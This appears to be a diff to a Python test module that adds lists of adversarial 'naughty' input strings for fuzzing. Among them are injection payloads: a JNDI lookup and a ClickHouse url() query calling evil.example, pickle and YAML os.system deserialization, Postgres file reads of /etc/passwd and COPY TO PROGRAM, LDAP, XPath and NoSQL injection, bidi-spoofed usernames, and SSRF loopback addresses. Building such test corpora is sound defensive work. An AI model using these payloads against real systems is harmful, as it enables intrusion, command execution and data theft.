@@ -202,22 +202,143 @@ URLS = [
     "x",
 ]
 LONG = ["x" * 3000, "é" * 3000, "\U0001f41f" * 3000, "a\u0301" * 2000, "\u200b" * 3000]
+_TURNS = [*"\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"]
+TURNED = [f"user{turn}nimda{end}" for turn in _TURNS for end in ("", "\u202c", "\u2069")]
+NO_CHARACTERS = [chr(plane * 0x10000 + end) for plane in range(17) for end in (0xFFFE, 0xFFFF)] + ["\ufdd0", "\ufdef"]
+MARKS = ["e" + "\u0301" * count for count in (1, 30, 300)] + [f"x{chr(code)}" for code in range(0xFE00, 0xFE10)]
+EDGES = [str(sign * 2**bits + more) for bits in (7, 8, 15, 16, 31, 32, 53, 63, 64, 128) for sign in (1, -1)
+         for more in (-1, 0)]  # fmt: skip
+HUGE = ["9" * digits for digits in (19, 20, 40, 309, 1000, 4301)] + [
+    "1e308",
+    "-1e-400",
+    "4.9e-324",
+    "0." + "0" * 400 + "1",
+]
+MOMENTS = """2026-02-30
+0000-00-00T00:00:00Z
+0001-01-01T00:00:00+23:59
+9999-12-31T23:59:59-23:59
+9999-12-31T23:59:60Z
++010000-01-01T00:00:00Z
+2026-01-01T25:61:61Z
+2026-01-01T00:00:00+99:99
+P9999999999Y
+Europe/../../etc/passwd
+UTC+99999
+@reboot
+60 24 32 13 8
+*/0 * * * *
+* * * * * * * * *""".splitlines()
+INJECTED = """{"$gt": ""}
+[$ne]=1
+*)(uid=*))(|(uid=*
+' or count(//*)=1 or 'a'='b
+${jndi:ldap://evil.example/a}
+{0.__class__.__init__.__globals__}
+{user!r:>9999999999}
+%n%n%n%n%s%x
+%9999999999d
+!!python/object/apply:os.system ["ls"]
+cos\\nsystem\\n(S'ls'\\ntR.
+file('/etc/passwd', CSV)
+') union all select * from url('http://evil.example/', CSV)--
+'; select sleepEachRow(3) settings max_threads=1--
+E'\\x27' || pg_read_file('/etc/passwd')
+$$; copy users to program 'ls'; $$
+{p:Identifier}
+:name
+?1
+\\i /etc/passwd
+../*
+<!DOCTYPE x [<!ENTITY a "&a;&a;">]>
+<?php system('ls'); ?>
+{"__proto__": {"admin": true}}
+query { __schema { types { name } } }
+a=1&a=2;a=3
+\\u0000
+\\ud800
+%c0%ae%c0%ae%c0%af
+%f8%80%80%80%80%af
+\\xff\\xfe
+&#x0;
+user@example.com\\r\\nBcc: x@example.com
+"<script>"@example.com
+user@[127.0.0.1]
+user@xn--e1afmkfd.xn--p1ai
+@
+a@b@c""".splitlines()
+IDENTITIES = """00000000-0000-0000-0000-000000000000
+ffffffff-ffff-ffff-ffff-ffffffffffff
+{0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e10}
+urn:uuid:0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e10
+0b8f0f0a6f3e4a529d2b8f6f2a3c1e10
+0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e1
+eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.
+e30.e30.e30
+WyIyMDI2LTAxLTAxVDAwOjAwOjAwWiIsIngiXQ
+bnVsbA==
+W10
+e30=
+////
+-_-_-_-_
+trawl_00000000000000000000000000000000""".splitlines()
+SELECTED = """//*[
+//a[contains(., '
+count(//a) = string(
+$..*[?(@
+$[?(@.a==@.b)]..[*]
+a:has(b:has(c:has(d)))
+:not(:not(:not(a)))
+a[href="
+*:nth-child(9999999999999n+1)
+::attr(href)::text
+@
+price *** 2
+1 if 1 else __import__("os")
+[x for x in ().__class__.__bases__]
+lambda: 0
+9**9**9**9
+"a" * 9999999999
+text/html; charset="
+*/*; q=nan
+bytes=0-,-1,99999999999999999999-
+W/"
+"*", "1"
+2.5.4.3=evil,O=
+evil.example:443@shop.test
+127.1
+[::ffff:127.0.0.1]
+0177.0.0.1
+localhost.localdomain.
+999.999.999.999/99
+::/129""".splitlines()
+UNSTORABLE = ["\x00", "a\x00b", "\ud800", "\udfff", "a\udc00b", "\ude00\ud83d"]
+"""What no store takes: NUL, and halves of characters. JSON and addresses can carry them, other callers cannot."""
 
 _KINDS = (
     CONTROL,
     INVISIBLE,
     BIDI,
+    TURNED,
+    NO_CHARACTERS,
     WIDE,
+    MARKS,
     NUMBERS,
+    EDGES,
+    HUGE,
+    MOMENTS,
     WORDS,
     PATHS,
     SQL,
     SCRIPT,
     SHELL,
+    INJECTED,
     HEADERS,
     FORMULAS,
     PATTERNS,
+    SELECTED,
     URLS,
+    IDENTITIES,
     LONG,
 )
 NAUGHTY: list[str] = list(dict.fromkeys(itertools.chain(*_KINDS)))
